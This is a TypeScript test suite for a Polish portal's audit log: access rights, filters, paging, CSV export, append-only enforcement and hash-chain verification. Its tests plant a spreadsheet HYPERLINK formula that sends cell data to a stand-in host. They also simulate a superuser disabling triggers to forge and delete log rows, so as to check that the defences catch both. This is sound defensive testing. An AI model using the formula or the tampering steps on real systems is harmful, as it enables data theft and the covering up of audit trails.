import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { after, before, describe, it } from 'node:test';
import { eq, sql } from 'drizzle-orm';
import { verifyAuditChains } from '../../src/db/repositories/audit-chain.ts';
import { recordAudit } from '../../src/db/repositories/audit.ts';
import { auditLog, identityAudit, rolePermissions, units } from '../../src/db/schema/index.ts';
import { recordIdentityAudit } from '../../src/identity/audit.ts';
import { buildProfile, buildRequest, buildUnit, buildUser } from '../builders/index.ts';
import { buildTestApp, type TestApp } from '../helpers/app.ts';
import type { Agent } from '../helpers/agent.ts';
import { loginAs } from '../helpers/login.ts';

type UnitRow = typeof units.$inferSelect;

/** The data rows of the page's table (each entry's visible text, tags removed). */
function entries(html: string): string[] {
  return [...html.matchAll(/<tr data-qa="audit-row">([\s\S]*?)<\/tr>/g)].map((m) => m[1]!.replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' '));
}
const totalOf = (html: string) => Number(/data-qa="audit-total">(\d+)</.exec(html)?.[1]);

describe('Zarządzanie → Dziennik zdarzeń: filters, paging, CSV, append-only log and its hash chain', () => {
  let t: TestApp;
  let cez: UnitRow;
  let kcpu: UnitRow;
  let other: UnitRow;
  let admin: Agent;
  let kcpuAdmin: Agent;
  let uwAdmin: Agent;
  let staff: Agent;
  let zaneta: string;
  let requestNumber: string;
  const db = () => t.database.db;

  async function member(unit: UnitRow, roleCode: string, names: { firstName?: string; lastName?: string; login?: string } = {}) {
    const user = await buildUser(db(), names);
    const { profile } = await buildProfile(db(), { unit, user });
    await buildRequest(db(), { profile, roleCode, status: 'zatwierdzony', verifyingUnit: unit });
    return { agent: await loginAs(t, user.id, { profileId: profile.id }), userId: user.id };
  }

  before(async () => {
    t = await buildTestApp();
    [cez] = (await db().select().from(units).where(eq(units.sourceKey, 'cez'))) as [UnitRow];
    kcpu = await buildUnit(db(), { kindCode: 'KCPU', name: 'Krajowe Centrum Testowe' });
    other = await buildUnit(db(), { name: 'Przychodnia Audytowa Testowa' });
    admin = (await member(cez, 'ADMIN_CEZ')).agent;
    staff = (await member(cez, 'PRACOWNIK_CEZ')).agent;
    uwAdmin = (await member(await buildUnit(db(), { kindCode: 'UW', voivodeshipCode: '04' }), 'ADMIN_UW')).agent;
    // the dictionary may give the permission to another office: it then sees its own unit's people only
    await db().insert(rolePermissions).values({ roleCode: 'ADMIN_KCPU', permissionCode: 'AUDYT_PRZEGLADAJ' });
    kcpuAdmin = (await member(kcpu, 'ADMIN_KCPU')).agent;
    const z = await member(other, 'WYP_NIEFIN', { firstName: 'Żaneta', lastName: 'Łukasiewicz', login: 'zluk' });
    zaneta = z.userId;
    const r = await buildRequest(db(), { verifyingUnit: kcpu });
    requestNumber = r.number;
  });
  after(() => t.close());

  it('opens for Administrator CeZ only (AUDYT_PRZEGLADAJ); others are refused, page and CSV alike', async () => {
    const res = await admin.get('/zarzadzanie/dziennik');
    assert.equal(res.statusCode, 200);
    assert.match(res.body, /data-qa="page-management-audit"/);
    assert.match(res.body, /całego systemu/);
    for (const a of [uwAdmin, staff]) {
      assert.equal((await a.get('/zarzadzanie/dziennik')).statusCode, 403);
      assert.equal((await a.get('/zarzadzanie/dziennik.csv')).statusCode, 403);
    }
    const hub = await admin.get('/zarzadzanie');
    assert.match(hub.body, /href="\/zarzadzanie\/dziennik"/);
    assert.doesNotMatch((await uwAdmin.get('/zarzadzanie')).body, /href="\/zarzadzanie\/dziennik"/);
  });

  it('filters by person (name or login, any case and Polish letters), action, object, unit, source, outcome and time', async () => {
    await recordAudit(db(), { action: 'profile.selected', actorUserId: zaneta, subjectType: 'profile', subjectId: 'p-zaneta', ip: '10.0.0.7' });
    await recordAudit(db(), { action: 'contact.message_sent', actorLabel: 'gość', subjectType: 'contact_request', subjectId: 'c-1', outcome: 'failure' });
    await db()
      .insert(auditLog)
      .values({ action: 'login', actorUserId: zaneta, occurredAt: new Date('2020-03-10T10:30:00Z') });
    await recordIdentityAudit(db(), { action: 'pz.code_wrong', outcome: 'failure', actor: 'zaneta.pz', details: { reason: 'wrong' } });

    const zan = await admin.get('/zarzadzanie/dziennik?osoba=ZANETA%20lukas');
    const rows = entries(zan.body);
    assert.ok(rows.length >= 3, zan.body.slice(0, 300));
    assert.ok(rows.every((r) => /Żaneta Łukasiewicz/.test(r)));
    assert.ok(entries((await admin.get('/zarzadzanie/dziennik?osoba=zluk')).body).length >= 3);

    const byAction = entries((await admin.get('/zarzadzanie/dziennik?akcja=profile.selected&osoba=zluk')).body);
    assert.equal(byAction.length, 1);
    assert.match(byAction[0]!, /Wybór profilu do pracy/);
    assert.match(byAction[0]!, /10\.0\.0\.7/);
    // a group of actions
    const group = entries((await admin.get(`/zarzadzanie/dziennik?akcja=request.*&obiekt=${encodeURIComponent(requestNumber)}`)).body);
    assert.ok(group.length >= 2 && group.every((r) => /request\./.test(r)));

    const byObject = entries((await admin.get('/zarzadzanie/dziennik?typ=contact_request&obiekt=c-1')).body);
    assert.equal(byObject.length, 1);
    assert.match(byObject[0]!, /gość/);
    assert.match(byObject[0]!, /Niepowodzenie/);

    const byUnit = entries((await admin.get('/zarzadzanie/dziennik?jednostka=audytowa')).body);
    assert.ok(byUnit.length >= 3 && byUnit.every((r) => /Łukasiewicz/.test(r)));
    const byUnitId = entries((await admin.get(`/zarzadzanie/dziennik?jednostka=${other.id}&akcja=login`)).body);
    assert.equal(byUnitId.length, 1);

    const ueoz = entries((await admin.get('/zarzadzanie/dziennik?zrodlo=ueoz&osoba=zaneta.pz')).body);
    assert.equal(ueoz.length, 1);
    assert.match(ueoz[0]!, /UEOZ: błędny kod SMS/);
    assert.equal(entries((await admin.get('/zarzadzanie/dziennik?zrodlo=portal&osoba=zaneta.pz')).body).length, 0);
    assert.ok(entries((await admin.get('/zarzadzanie/dziennik?wynik=failure')).body).every((r) => /Niepowodzenie/.test(r)));

    // time, Polish: 10:30 UTC in March is 11:30 in Warsaw
    const day = entries((await admin.get('/zarzadzanie/dziennik?osoba=zluk&od=2020-03-10&do=2020-03-10')).body);
    assert.equal(day.length, 1);
    assert.match(day[0]!, /10\.03\.2020/);
    assert.equal(entries((await admin.get('/zarzadzanie/dziennik?osoba=zluk&od=2020-03-10%2011:31&do=2020-03-11')).body).length, 0);
    assert.equal(entries((await admin.get('/zarzadzanie/dziennik?osoba=zluk&od=2020-03-10%2011:30&do=2020-03-10%2011:30')).body).length, 1);
    assert.equal(entries((await admin.get('/zarzadzanie/dziennik?osoba=zluk&do=2020-03-09')).body).length, 0);
    // the form keeps what was typed; a bad value is no filter, never an error
    const kept = await admin.get('/zarzadzanie/dziennik?osoba=%C5%BBaneta&od=2020-02-31&akcja=DROP%20TABLE&ile=7');
    assert.equal(kept.statusCode, 200);
    assert.match(kept.body, /name="osoba"[^>]*value="Żaneta"/);
    assert.match(kept.body, /name="od"[^>]*value=""/);
  });

  it('pages through the entries with the filters kept in every link', async () => {
    for (let i = 0; i < 30; i++) await recordAudit(db(), { action: 'test.paging', subjectType: 'unit', subjectId: `page-${i}` });
    const p1 = await admin.get('/zarzadzanie/dziennik?akcja=test.paging&ile=25');
    assert.equal(totalOf(p1.body), 30);
    assert.equal(entries(p1.body).length, 25);
    assert.match(p1.body, /href="\/zarzadzanie\/dziennik\?akcja=test\.paging&(amp;)?ile=25&(amp;)?strona=2#zdarzenia"/);
    assert.match(entries(p1.body)[0]!, /page-29/);
    const p2 = await admin.get('/zarzadzanie/dziennik?akcja=test.paging&ile=25&strona=2');
    assert.equal(entries(p2.body).length, 5);
    assert.match(entries(p2.body)[4]!, /page-0/);
    // an unknown action code stays selectable
    assert.match(p1.body, /<option value="test\.paging" selected/);
    // past the last page: the last page
    assert.equal(entries((await admin.get('/zarzadzanie/dziennik?akcja=test.paging&ile=25&strona=99')).body).length, 5);
  });

  it('exports the filtered entries as CSV (UTF-8 with BOM, ";") with formulas neutralised, and audits the export', async () => {
    await recordAudit(db(), {
      action: 'contact.message_sent',
      actorLabel: '=HYPERLINK("http://zly.example/?x="&A1;"kliknij")',
      subjectType: 'contact_request',
      subjectId: '+48123',
      details: { topic: '@SUM(1+1)', note: '-2+3' },
    });
    const res = await admin.get('/zarzadzanie/dziennik.csv?typ=contact_request');
    assert.equal(res.statusCode, 200);
    assert.match(String(res.headers['content-type']), /^text\/csv; charset=utf-8/);
    assert.match(String(res.headers['content-disposition']), /^attachment; filename="dziennik-zdarzen-\d{4}-\d{2}-\d{2}\.csv"$/);
    const raw = res.rawPayload;
    assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = raw.toString('utf8').slice(1);
    const lines = text.split('\r\n').filter(Boolean);
    assert.match(lines[0]!, /^Czas \(UTC\);Czas \(Polska\);Źródło;/);
    assert.ok(lines.length >= 3);
    assert.ok(lines.slice(1).every((l) => l.includes('contact_request') || l.includes('Wiadomość do pomocy')));
    const evil = lines.find((l) => l.includes('HYPERLINK'))!;
    // the person cell starts with a quote, inside CSV quoting; no cell starts with = + - @
    assert.match(evil, /;"'=HYPERLINK\(""http:\/\/zly\.example\/\?x=""&A1;""kliknij""\)";/);
    assert.match(evil, /;'\+48123;/);
    const cells = evil.match(/(?<=^|;)("(?:[^"]|"")*"|[^;]*)/g)!.map((c) => c.replace(/^"|"$/g, ''));
    assert.ok(
      cells.every((c) => !/^[=+\-@\t\r]/.test(c)),
      cells.join(' | '),
    );
    // the export is in the log itself
    const exported = await db().select().from(auditLog).where(eq(auditLog.action, 'management.audit_exported'));
    assert.equal(exported.length, 1);
    assert.equal(exported[0]!.details.filters && (exported[0]!.details.filters as Record<string, string>).subjectType, 'contact_request');
  });

  it('shows the details in Polish for people: labelled keys, nested values as a path, no nulls, no JSON; escaped; CSV alike', async () => {
    await recordAudit(db(), {
      action: 'announcement.created',
      subjectType: 'announcement',
      subjectId: 'det-1',
      details: { after: { title: '<b>Przerwa</b>', body: 'Treść', publishedAt: '2026-03-10T10:30:00.000Z', publishedUntil: null, audienceRoles: [] } },
    });
    await recordAudit(db(), {
      action: 'security.refused',
      subjectType: 'unit',
      subjectId: 'det-2',
      outcome: 'failure',
      details: { code: 'forbidden', status: 403, method: 'POST', route: '/zarzadzanie/x', profileId: null, nowyKlucz: 'x' },
    });
    await recordAudit(db(), {
      action: 'unit.updated',
      subjectType: 'unit',
      subjectId: 'det-3',
      details: { changes: { name: { from: 'Stara', to: 'Nowa' }, isActive: { from: true, to: false } } },
    });
    const res = await admin.get('/zarzadzanie/dziennik?obiekt=det-1');
    assert.doesNotMatch(res.body, /npm run|audit:check/, 'no developer command on the page');
    assert.match(res.body, /administrator systemu może sprawdzić ciągłość dziennika/);
    const row = async (id: string) => entries((await admin.get(`/zarzadzanie/dziennik?obiekt=${id}`)).body)[0]!;
    const ann = await row('det-1');
    // (jsonb keeps keys in its own order)
    for (const part of [
      /Po › tytuł: &lt;b>Przerwa&lt;\/b>(;|\s*$)/,
      /Po › treść: Treść/,
      /Po › publikuj od: 10\.03\.2026,? 11:30/,
      /Po › role odbiorców: brak/,
    ])
      assert.match(ann, part);
    assert.doesNotMatch(res.body, /<b>Przerwa/);
    assert.doesNotMatch(ann, /publikuj do|publishedUntil|after|\{"/);
    const refused = await row('det-2');
    for (const part of ['Kod: forbidden', 'Status: 403', 'Metoda: POST', 'Adres: /zarzadzanie/x', 'nowyKlucz: x']) assert.ok(refused.includes(part), refused);
    assert.doesNotMatch(refused, /Profil|profileId|null/);
    assert.match(await row('det-3'), /Zmiany › nazwa: Stara → Nowa; Zmiany › aktywna: tak → nie/);
    const csv = (await admin.get('/zarzadzanie/dziennik.csv?obiekt=det-1')).rawPayload.toString('utf8');
    const csv2 = (await admin.get('/zarzadzanie/dziennik.csv?obiekt=det-2')).rawPayload.toString('utf8');
    assert.ok(csv.includes('Po › tytuł: <b>Przerwa</b>') && csv.includes('Po › treść: Treść'), csv);
    assert.ok(csv2.includes('Status: 403') && csv2.includes('Metoda: POST'), csv2);
    assert.doesNotMatch(csv + csv2, /\{""|profileId/);
  });

  it('another office holding the permission sees the entries of its own unit’s people only', async () => {
    const res = await kcpuAdmin.get('/zarzadzanie/dziennik');
    assert.equal(res.statusCode, 200);
    assert.match(res.body, /Krajowe Centrum Testowe/);
    assert.equal(entries((await kcpuAdmin.get('/zarzadzanie/dziennik?osoba=zluk')).body).length, 0);
    assert.equal(entries((await kcpuAdmin.get('/zarzadzanie/dziennik?typ=contact_request')).body).length, 0);
    assert.ok(entries(res.body).length >= 1);
    const csv = (await kcpuAdmin.get('/zarzadzanie/dziennik.csv?osoba=zluk')).rawPayload.toString('utf8');
    assert.equal(csv.split('\r\n').filter(Boolean).length, 1);
  });

  it('the log is append-only: UPDATE, DELETE and TRUNCATE are refused on both logs and on the chain heads', async () => {
    await recordAudit(db(), { action: 'test.append_only' });
    await recordIdentityAudit(db(), { action: 'test.append_only', outcome: 'success' });
    const refused = async (q: ReturnType<typeof sql>) => {
      await assert.rejects(
        db().execute(q),
        (e: Error & { cause?: { message?: string } }) => /tylko nowe wpisy/.test(`${e.message} ${e.cause?.message ?? ''}`),
        String(q.queryChunks.map((c) => (typeof c === 'object' && c && 'value' in c ? (c.value as string[]).join('') : '')).join('')),
      );
    };
    await refused(sql`update portal.audit_log set action = 'x' where action = 'test.append_only'`);
    await refused(sql`update portal.audit_log set hash = 'x', seq = seq where action = 'test.append_only'`);
    await refused(sql`delete from portal.audit_log where action = 'test.append_only'`);
    await refused(sql`truncate portal.audit_log`);
    await refused(sql`update identity.audit_events set outcome = 'failure' where action = 'test.append_only'`);
    await refused(sql`delete from identity.audit_events`);
    await refused(sql`truncate identity.audit_events`);
    await refused(sql`delete from portal.audit_chain_heads`);
    assert.equal((await db().select().from(auditLog).where(eq(auditLog.action, 'test.append_only'))).length, 1);
    assert.equal((await db().select().from(identityAudit).where(eq(identityAudit.action, 'test.append_only'))).length, 1);
  });

  it('every new row is sealed into the chain at commit, also under concurrent transactions', async () => {
    await Promise.all(
      Array.from({ length: 8 }, (_, i) =>
        db().transaction(async (tx) => {
          await recordAudit(tx, { action: 'test.concurrent', subjectId: `a-${i}` });
          await new Promise((r) => setTimeout(r, 5 * (i % 3)));
          await recordAudit(tx, { action: 'test.concurrent', subjectId: `b-${i}` });
          await recordIdentityAudit(tx, { action: 'test.concurrent', outcome: 'success', details: { i } });
        }),
      ),
    );
    const rows = await db().select({ seq: auditLog.seq, hash: auditLog.hash }).from(auditLog).where(eq(auditLog.action, 'test.concurrent'));
    assert.equal(rows.length, 16);
    assert.ok(rows.every((r) => r.seq !== null && /^[0-9a-f]{64}$/.test(r.hash ?? '')));
    for (const r of await verifyAuditChains(db())) {
      assert.deepEqual(r.problems, [], r.chain);
      assert.ok(r.rows > 0 && r.rows === r.lastSeq, `${r.chain}: ${r.rows} rows, last ${r.lastSeq}`);
    }
  });

  it('the chain check finds a planted edit, a deleted row and deleted newest rows (npm run audit:check exits 1)', async () => {
    for (let i = 0; i < 4; i++) await recordAudit(db(), { action: 'test.chain', subjectId: `c-${i}` });
    await recordIdentityAudit(db(), { action: 'test.chain', outcome: 'success' });
    const seqOf = async (subjectId: string) => Number((await db().select({ s: auditLog.seq }).from(auditLog).where(eq(auditLog.subjectId, subjectId)))[0]!.s);
    const edited = await seqOf('c-0');
    const deleted = await seqOf('c-2');
    // tampering as a superuser who switches the triggers off (session_replication_role)
    await db().transaction(async (tx) => {
      await tx.execute(sql`set local session_replication_role = replica`);
      await tx.execute(sql`update portal.audit_log set details = '{"forged": true}'::jsonb where subject_id = 'c-0'`);
      await tx.execute(sql`delete from portal.audit_log where subject_id = 'c-2'`);
      await tx.execute(sql`delete from identity.audit_events where action = 'test.chain'`);
    });
    const reports = Object.fromEntries((await verifyAuditChains(db())).map((r) => [r.chain, r]));
    const portal = reports['portal.audit_log']!;
    assert.deepEqual(
      portal.problems.map((p) => [p.kind, p.seq]),
      [
        ['edited', edited],
        ['missing', deleted],
      ],
    );
    assert.match(portal.problems[0]!.message, new RegExp(`wpis nr ${edited} `));
    assert.match(portal.problems[1]!.message, new RegExp(`brak wpisów nr ${deleted} `));
    assert.deepEqual(
      reports['identity.audit_events']!.problems.map((p) => p.kind),
      ['missing_newest'],
    );

    // the command itself, where the database can be reached from another process (PostgreSQL)
    if (t.database.url) {
      const run = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/audit-check.ts'], {
        env: { ...process.env, DATABASE_URL: t.database.url, NODE_ENV: 'test' },
        encoding: 'utf8',
      });
      assert.equal(run.status, 1, run.stderr);
      assert.match(run.stdout, /portal\.audit_log: ŁAŃCUCH NARUSZONY/);
      assert.match(run.stdout, new RegExp(`wpis nr ${edited} `));
    }
  });
});
